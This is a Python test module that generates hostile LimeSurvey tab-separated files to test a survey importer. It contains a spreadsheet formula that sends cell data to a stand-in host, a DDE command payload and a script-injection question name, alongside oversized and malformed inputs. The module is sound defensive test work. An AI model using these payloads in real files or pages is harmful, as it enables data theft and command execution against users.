"""Hostile rows: LimeSurvey's tab-separated structure."""

from __future__ import annotations

from collections.abc import Iterator

from tests.surveys.interchange.hostile.files import EITHER, READ, REFUSED, HostileFile
from tests.surveys.interchange.hostile.honest import rows

MANY = 100_000
_HEADER = ("class", "type/scale", "name", "relevance", "text", "help", "language", "validation", "mandatory", "other")
_TOP = [
    ("S", "", "language", "", "nl"),
    ("SL", "", "surveyls_title", "", "Evaluatie", "", "nl"),
    ("G", "G0", "Groep", "1", "", "", "nl"),
]


def row_files() -> Iterator[HostileFile]:
    """Yield hostile files of rows."""

    def file(what: str, *lines: tuple[str, ...], outcome: str = READ, header: tuple[str, ...] = _HEADER) -> HostileFile:
        return HostileFile("limesurvey-tsv", what, lambda: _written([header, *_TOP, *lines]), outcome)

    formula = '=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
    yield file(
        "formulas in every cell",
        _asked(name="q1", text=formula, help_text="+1+cmd|' /C calc'!A0"),
        _asked("q2", "@SUM(1)"),
    )
    yield file("100,000 rows", *[_asked(f"q{number}") for number in range(MANY)], outcome=REFUSED)
    yield file(
        "100,000 columns", _asked(), header=(*_HEADER, *(f"c{number}" for number in range(MANY))), outcome=EITHER
    )
    yield file("a row of 100,000 cells", (*_asked(), *("x",) * MANY), outcome=EITHER)
    yield file("a cell of 5 MB", _asked(text="x" * 5_000_000), outcome=EITHER)
    yield file("columns of the same name", _asked(), header=(*_HEADER, *_HEADER), outcome=EITHER)
    yield file("names that are there twice", _asked(), _asked())
    yield file("conditions in a circle", _asked("q1", relevance='q2 == "a"'), _asked("q2", relevance='q1 == "a"'))
    yield file("a condition in 10,000 brackets", _asked(), _asked("q2", relevance="(" * 10_000 + "q1" + ")" * 10_000))
    long = " or ".join(['q1 == "a"'] * 80_000)
    yield file("a condition of 1 MB", _asked(), _asked("q2", relevance=long), outcome=REFUSED)
    yield file(
        "20,000 answers",
        _asked(kind="L"),
        *(("A", "0", f"A{n}", "", "x", "", "nl") for n in range(20_000)),
        _asked("q2"),
    )
    yield file("an attack as a name", _asked('"><script>alert(1)</script>'), _asked("q2"))
    yield file("a row before its group", ("SQ", "", "x"), ("A", "0", "y"), ("C", "1", "z"), _asked())
    yield file("classes that are not known", ("Q!", "T", "x"), *(("\u202e", "x", "y"),) * 50, _asked(), outcome=EITHER)
    yield HostileFile("limesurvey-tsv", "a quote that never ends", lambda: rows() + b'Q\tT\tq9\t1\t"never', EITHER)
    yield HostileFile("limesurvey-tsv", "quotes and nothing else", lambda: b'"' * 1_000_000)
    yield HostileFile("limesurvey-tsv", "tabs and nothing else", lambda: b"\t" * 1_000_000)
    yield HostileFile("limesurvey-tsv", "lines and nothing else", lambda: b"\n" * 1_000_000)
    yield HostileFile("limesurvey-tsv", "rows and 5 MB of empty ones", lambda: rows() + b"\t\t\r\n" * 1_200_000, EITHER)
    yield HostileFile("limesurvey-tsv", "commas", lambda: rows().replace(b"\t", b","))


def _asked(
    name: str = "q1", text: str = "Vraag", kind: str = "T", relevance: str = "1", help_text: str = ""
) -> tuple[str, ...]:
    return ("Q", kind, name, relevance, text, help_text, "nl")


def _written(lines: list[tuple[str, ...]]) -> bytes:
    quoted = ("\t".join('"' + cell.replace('"', '""') + '"' for cell in line) for line in lines)
    return "\r\n".join(quoted).encode()
